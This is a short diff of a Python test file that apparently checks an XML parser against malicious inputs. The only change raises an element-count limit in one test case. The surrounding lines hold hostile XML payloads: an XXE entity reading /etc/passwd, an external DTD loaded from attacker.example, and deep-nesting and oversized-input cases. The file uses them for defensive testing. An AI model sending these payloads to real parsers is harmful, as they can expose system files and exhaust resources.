@@ -56,7 +56,7 @@ def test_names_are_read_with_and_without_a_namespace() -> None:
         b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
         b'<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>',
         b"<a>" * 17 + b"</a>" * 17,
-        b"<a>" + b"<b/>" * 20_001 + b"</a>",
+        b"<a>" + b"<b/>" * 81_001 + b"</a>",
         b"<a>" + b" " * (8 * 1024 * 1024) + b"</a>",
     ],
 )
